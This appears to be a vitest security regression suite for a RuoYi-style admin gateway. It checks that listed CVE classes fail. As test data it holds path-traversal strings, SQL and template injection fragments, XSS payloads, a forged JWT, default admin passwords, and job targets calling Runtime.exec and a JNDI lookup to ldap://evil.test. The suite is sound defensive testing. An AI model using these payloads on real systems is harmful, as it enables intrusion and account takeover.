// @vitest-environment node
import { createHmac } from 'node:crypto'
import { expect, it } from 'vitest'
import { knownPassword } from '@/sandbox'
import { aWithdrawal } from '@/tests/support/records'
import { png } from '@/tests/support/files/pictures'
import { workbook } from '@/tests/support/files/workbook'
import { mounts, openContract, readEnvelope, signed, type Caller, type Contract } from './mounts'

/**
 * What went wrong in gateways of this family, class by class, under the records' names (reliability §2.5): none
 * of it works here. What concerns the portal alone is tested there.
 */

const [mount = { name: '', reach: () => fetch }] = mounts

const notFound = { code: 404, msg: 'The requested resource does not exist' }

async function open(): Promise<Contract & { admin: Caller; token: string }> {
  const contract = await openContract(mount)
  const token = await contract.sandbox.logIn('admin')
  return { ...contract, token, admin: contract.withToken(token) }
}

const outside = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  '....//....//etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '..%252f..%252fetc%252fpasswd',
  '\u2025/\u2025/etc/passwd',
  'a.xlsx\0.png',
  'C:\\boot.ini',
  '',
]

it('CVE-2023-27025, RuoYi-Vue #151, ruoyi-go #14: no name leads to a file outside the exports', async () => {
  const { admin, call } = await open()
  for (const name of outside)
    for (const rest of ['', '&delete=true', '&delete=yes']) {
      const path = `/common/download?fileName=${encodeURIComponent(name)}${rest}`
      expect([name, await admin('GET', path)]).toEqual([name, notFound])
      expect(await call('GET', path)).toMatchObject({ code: 401 })
    }
  for (const name of ['..%2f..%2fpackage.json', '%2e%2e%2f.env', '%00.png'])
    expect(await call('GET', `/profile/upload/${name}`)).toEqual(notFound)
})

it('CVE-2023-49371: an undeclared parameter reaches no SQL', async () => {
  const { admin } = await open()
  const injected = encodeURIComponent(' and 1=(select 1/0)')
  for (const path of ['/system/role/list', '/system/user/list', '/store/bill/list']) {
    const plain = await admin('GET', path)
    for (const name of ['params[dataScope]', 'params%5BdataScope%5D', 'dataScope', 'ancestors'])
      expect(await admin('GET', `${path}?${name}=${injected}`)).toEqual(plain)
  }
  const before = await admin('GET', '/system/dept/list')
  const body = { deptId: 4, ancestors: '0)or(select 1/0)in(1', params: { dataScope: 'or 1=1' } }
  expect(await admin('PUT', '/system/dept', { body })).toMatchObject({ code: 200 })
  const after = await admin('GET', '/system/dept/list')
  expect(JSON.stringify(after)).not.toContain('select')
  expect(after.data).toHaveLength((before.data as unknown as readonly object[]).length)
})

it('RuoYi #310: the order is looked up, not built from what was sent', async () => {
  const { admin } = await open()
  const plain = await admin('GET', '/system/user/list')
  for (const column of [
    'case when(select 1)like 0x31 then user_id else dept_id end',
    'userId,(select pg_sleep(5))',
    'user_id',
    'password',
  ])
    for (const direction of ['asc', 'asc,(select 1)', 'desc limit 1'])
      expect(
        await admin(
          'GET',
          `/system/user/list?${new URLSearchParams({ orderByColumn: column, isAsc: direction })}`,
        ),
      ).toEqual(plain)
})

it('CVE-2022-4566, -48114, CVE-2024-57521, CVE-2025-10473: the generator runs no statement from a request', async () => {
  const { admin, sandbox } = await open()
  const tables = () =>
    sandbox.db.query(
      "select table_name from information_schema.tables where table_schema = 'public'",
    )
  const before = await tables()
  const sql = 'create table evil as select * from sys_user; --'
  for (const path of [
    `/tool/gen/createTable?sql=${encodeURIComponent(sql)}`,
    '/tool/gen/createTable',
  ])
    expect((await admin('POST', path, { body: { sql } })).code).not.toBe(200)
  for (const name of [sql, 'st_bill; drop table st_bill', 'pg_catalog.pg_user', "st_bill'"])
    expect(
      (await admin('POST', `/tool/gen/importTable?tables=${encodeURIComponent(name)}`)).code,
    ).not.toBe(200)
  expect(await tables()).toEqual(before)
})

it('CVE-2023-3163: every rule refuses a text of sixty thousand characters', async () => {
  const { admin } = await open()
  const long = [`${'a'.repeat(60_000)}!`, `${'1 '.repeat(30_000)}x`, `${'1.'.repeat(30_000)}`]
  for (const text of long) {
    for (const [path, names] of [
      ['/store/store', ['nick', 'phone']],
      ['/store/user', ['email', 'notifyUrl', 'ipWhitelist', 'name']],
      ['/monitor/job', ['cronExpression', 'invokeTarget']],
      ['/system/dict/type', ['dictType']],
    ] as const)
      for (const name of names)
        expect(await admin('POST', path, { body: { [name]: text } })).toMatchObject({ code: 500 })
    const query = new URLSearchParams({ nick: text.slice(0, 8_000) })
    expect(await admin('GET', `/store/store/list?${query}`)).toMatchObject({ total: 0 })
  }
})

it('GHSA-6w2f-6wq3-rjvf, CVE-2025-7906, CVE-2023-3815: only pictures are accepted, and never under the name that was sent', async () => {
  const { send, token } = await open()
  const post = async (bytes: Uint8Array<ArrayBuffer>, name: string, type: string) => {
    const body = new FormData()
    body.append('file', new File([bytes], name, { type }))
    const headers = { Authorization: `Bearer ${token}` }
    return readEnvelope(await send('/common/upload', { method: 'POST', body, headers }))
  }
  const page = Uint8Array.from(Buffer.from('<html><script>alert(1)</script>'))
  for (const [name, type] of [
    ['a.html', 'text/html'],
    ['a.png', 'image/png'],
    ['a.svg', 'image/svg+xml'],
    ['a.jsp', 'image/png'],
  ] as const)
    expect(await post(page, name, type)).toMatchObject({ code: 500 })
  const name = '<img src=x onerror=alert(1)>.png'
  const { data } = await post(png(), name, 'image/png')
  expect(data['originalFilename']).toBe(name)
  expect(data['fileName']).toMatch(/^\/profile\/upload\/[\da-f]{32}\.png$/)
})

it('CVE-2024-9048: an imported account has no markup in its name', async () => {
  const { send, token, admin } = await open()
  const body = new FormData()
  const rows = [
    ['Account', 'Name'],
    ['<svg/onload=alert(1)>', 'Ann'],
  ]
  body.append('file', new File([workbook(rows)], 'a.xlsx'))
  const headers = { Authorization: `Bearer ${token}` }
  const imported = await send('/system/user/importData', { method: 'POST', body, headers })
  expect(await readEnvelope(imported)).toMatchObject({ code: 500 })
  expect(await admin('GET', '/system/user/list')).toMatchObject({ total: 6 })
})

it('CVE-2025-7902, CVE-2021-43466: text is stored as text, never evaluated', async () => {
  const { admin } = await open()
  const noticeContent = '<script>alert(1)</script>${7*7}#{7*7}[[${7*7}]]{{7*7}}'
  const body = { noticeTitle: noticeContent.slice(0, 50), noticeType: '1', noticeContent }
  const { data: id } = await admin('POST', '/system/notice', { body })
  expect((await admin('GET', `/system/notice/${String(id)}`)).data).toMatchObject(body)
})

it('CVE-2025-7901, K7: no documentation, console or control is served', async () => {
  const { admin } = await open()
  for (const path of [
    ['/swagger-ui/index.html', '/swagger-ui.html', '/v2/api-docs', '/v3/api-docs', '/doc.html'],
    ['/druid/index.html', '/actuator', '/actuator/env', '/h2-console', '/.git/config', '/.env'],
    ['/__fault', '/monitor/server', '/tool/swagger'],
  ].flat())
    expect([path, await admin('GET', path)]).toEqual([path, notFound])
})

it('CVE-2026-108802: the look of a dictionary entry is one of a few', async () => {
  const { admin } = await open()
  for (const listClass of ['x" onmouseover="alert(1)', 'red', '<b>', 'javascript:alert(1)']) {
    const body = {
      dictType: 'sys_user_sex',
      dictLabel: 'X',
      dictValue: '9',
      dictSort: 1,
      listClass,
    }
    expect(await admin('POST', '/system/dict/data', { body })).toMatchObject({ code: 500 })
  }
})

it('CVE-2023-7133, CVE-2024-6511: a refusal is JSON for every requested format', async () => {
  const { send } = await open()
  const markup = encodeURIComponent('<script>alert(1)</script>')
  for (const path of [`/${markup}`, `/login?rememberMe=${markup}`, `/getInfo?callback=${markup}`])
    for (const accept of ['text/html', '*/*', 'application/xml']) {
      // the reader checks the rest of every answer
      const { msg } = await readEnvelope(await send(path, { headers: { Accept: accept } }))
      expect(msg).not.toContain('<script>')
    }
})

it('CVE-2026-108800: a page of another site cannot act, because it has no header and no JSON', async () => {
  const { send, sandbox, token } = await open()
  const id = await sandbox.insert(aWithdrawal())
  const path = `/store/storeDraw/pass/${id}`
  const body = JSON.stringify(signed().body)
  for (const headers of [
    { Cookie: `Admin-Tokens=${token}`, 'Content-Type': 'text/plain' },
    { Cookie: `Admin-Tokens=${token}; Admin-Token=${token}`, 'Content-Type': 'application/json' },
  ])
    expect(await readEnvelope(await send(path, { method: 'PUT', headers, body }))).toMatchObject({
      code: 401,
    })
  const headers = { Authorization: `Bearer ${token}`, 'Content-Type': 'text/plain' }
  expect(await readEnvelope(await send(path, { method: 'PUT', headers, body }))).toMatchObject({
    code: 500,
  })
  expect(await readEnvelope(await send(`${path}?access_token=${token}`, {}))).toMatchObject({
    code: 500,
  })
})

it('CVE-2026-108803: the session of a disabled account ends at once', async () => {
  const { as, admin } = await open()
  const store = await as('store')
  expect(await store('GET', '/getInfo')).toMatchObject({ code: 200 })
  await admin('PUT', '/system/user/changeStatus', { body: { userId: 4, status: '1' } })
  expect(await store('GET', '/getInfo')).toMatchObject({ code: 401 })
  await admin('PUT', '/system/user/changeStatus', { body: { userId: 4, status: '0' } })
  expect(await store('GET', '/getInfo')).toMatchObject({ code: 401 })
})

it('CVE-2024-57436: the monitor shows nothing that opens a session', async () => {
  const { admin, withToken, token } = await open()
  const { rows } = await admin('GET', '/monitor/online/list')
  expect(rows.length).toBeGreaterThan(0)
  expect(JSON.stringify(rows)).not.toContain(token)
  for (const { tokenId } of rows)
    expect(await withToken(String(tokenId))('GET', '/getInfo')).toMatchObject({ code: 401 })
})

it('CVE-2024-57438, CVE-2025-28406, CVE-2025-70985, CVE-2026-108825, CVE-2026-37669: no account extends its own permissions', async () => {
  const { as, sandbox } = await open()
  const store = await as('store')
  const rights = async () => (await store('GET', '/getInfo')).data
  const before = await rights()
  const more = { userId: 1, roleIds: [1], userType: '00', storeId: 2, store_id: 2, admin: true }
  await store('PUT', '/system/user/profile', { body: { nickName: 'Own', ...more } })
  expect(await rights()).toEqual(before)
  const [own, other] = await sandbox.db.query(
    'select nick_name as name from sys_user where user_id in (1, 4) order by user_id desc',
  )
  expect([own, other]).toEqual([{ name: 'Own' }, { name: 'admin' }])
  await sandbox.db.query(
    `insert into sys_role_menu select 4, menu_id from sys_menu where perms like 'system:user:%'`,
  )
  for (const path of ['/system/user', '/system/user/authRole'])
    expect((await store('PUT', path, { body: { userId: 4, roleIds: [1] } })).code).not.toBe(200)
  expect((await rights())['roles']).toEqual(before['roles'])
})

it('CVE-2024-57439: a name that is taken is a refusal, not an error', async () => {
  const { admin } = await open()
  const body = { userName: 'store', nickName: 'x', password: 'hidden_9' }
  for (const name of ['store', ' store '])
    expect(await admin('POST', '/system/user', { body: { ...body, userName: name } })).toEqual({
      code: 500,
      msg: 'userName store is already in use',
    })
  expect(
    await admin('PUT', '/system/user', { body: { userId: 3, userName: 'store' } }),
  ).toMatchObject({ code: 500 })
})

it('CVE-2022-37158, CVE-2025-7907: no account has a well-known password of the family', async () => {
  const { call } = await open()
  for (const [username, password] of [
    ['admin', 'admin123'],
    ['admin', 'admin'],
    ['ry', 'admin123'],
    ['ruoyi', '123456'],
  ])
    expect(await call('POST', '/login', { body: { username, password } })).toMatchObject({
      code: 500,
    })
})

it('CVE-2021-28411, the alphabet as secret: tokens are random, and none can be forged', async () => {
  const { call, withToken, sandbox, send } = await open()
  const tokens = [await sandbox.logIn('admin'), await sandbox.logIn('admin')]
  for (const token of tokens) expect(token).toMatch(/^[\da-f]{64}$/)
  expect(tokens[0]).not.toBe(tokens[1])
  const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
  const claims = `${encode({ alg: 'HS512' })}.${encode({ login_user_key: 'admin', sub: 'admin' })}`
  const secret = 'abcdefghijklmnopqrstuvwxyz'
  const signature = createHmac('sha512', secret).update(claims).digest('base64url')
  for (const token of [`${claims}.${signature}`, `${encode({ alg: 'none' })}.e30.`, ''])
    expect(await withToken(token)('GET', '/getInfo')).toMatchObject({ code: 401 })
  const headers = { Cookie: 'rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==' }
  expect(await readEnvelope(await send('/getInfo', { headers }))).toMatchObject({ code: 401 })
  expect(
    await call('POST', '/login', { body: { username: 'admin', password: knownPassword } }),
  ).toMatchObject({ code: 200 })
})

it('CVE-2025-0734: a job calls its own tasks only', async () => {
  const { admin } = await open()
  const targets = [
    "java.lang.Runtime.exec('id')",
    "genTableServiceImpl.createTable('create table evil as select 1')",
    "org.springframework.jndi.JndiLocatorDelegate.lookup('ldap://evil.test')",
    "process.exit('1')",
  ]
  for (const invokeTarget of targets) {
    const body = { jobName: 'x', jobGroup: 'DEFAULT', invokeTarget, cronExpression: '0 0 3 * * ?' }
    const { code, data: jobId } = await admin('POST', '/monitor/job', { body })
    if (code !== 200) continue
    await admin('PUT', '/monitor/job/run', { body: { jobId, jobGroup: 'DEFAULT' } })
    const { rows } = await admin('GET', '/monitor/jobLog/list?orderByColumn=jobLogId&isAsc=desc')
    expect(rows[0]).toMatchObject({ invokeTarget, status: '1' })
  }
  expect(await admin('GET', '/system/role/list')).toMatchObject({ total: 4 })
})

it('CVE-2024-46076, CVE-2025-66916, RuoYi-Vue-Plus #33: no comment becomes code, and no name becomes a path', async () => {
  const { admin } = await open()
  const { data: tableId } = await admin('POST', '/tool/gen/importTable?tables=st_bill')
  const evil = "*/ import('child_process') /* ${7*7}\"'"
  const comments = {
    tableId,
    tableComment: evil,
    functionName: evil,
    genPath: '/etc',
    genType: '1',
  }
  expect(await admin('PUT', '/tool/gen', { body: comments })).toMatchObject({ code: 200 })
  for (const name of ['../../etc/cron.d/x', 'a/b', 'a b', "x'); drop table st_bill; --"])
    for (const field of ['businessName', 'moduleName', 'className', 'packageName'])
      expect(await admin('PUT', '/tool/gen', { body: { tableId, [field]: name } })).toMatchObject({
        code: 500,
      })
  const { data } = await admin('GET', `/tool/gen/preview/${String(tableId)}`)
  expect(JSON.stringify(data)).not.toContain('child_process')
  expect(Object.keys(data)).toEqual(['sql/st_bill.sql', 'sql/billMenu.sql', 'json/bill.json'])
})

it('K2: a database that fails midway leaves nothing half done, and is used again once it is back', async () => {
  const { admin, sandbox } = await open()
  const id = await sandbox.insert(aWithdrawal())
  const path = `/store/storeDraw/pass/${id}`
  await sandbox.db.query('alter table st_bill rename to away')
  const { code, msg } = await admin('PUT', path, signed())
  await sandbox.db.query('alter table away rename to st_bill')
  expect([code, msg]).toEqual([500, expect.stringMatching(/^Unexpected error, reference \w{8}$/)])
  expect((sandbox.problems as string[]).splice(0)).toHaveLength(1)
  expect((await admin('GET', `/store/storeDraw/${id}`)).data).toMatchObject({ status: '1' })
  expect(await admin('PUT', path, signed())).toMatchObject({ code: 200 })
})
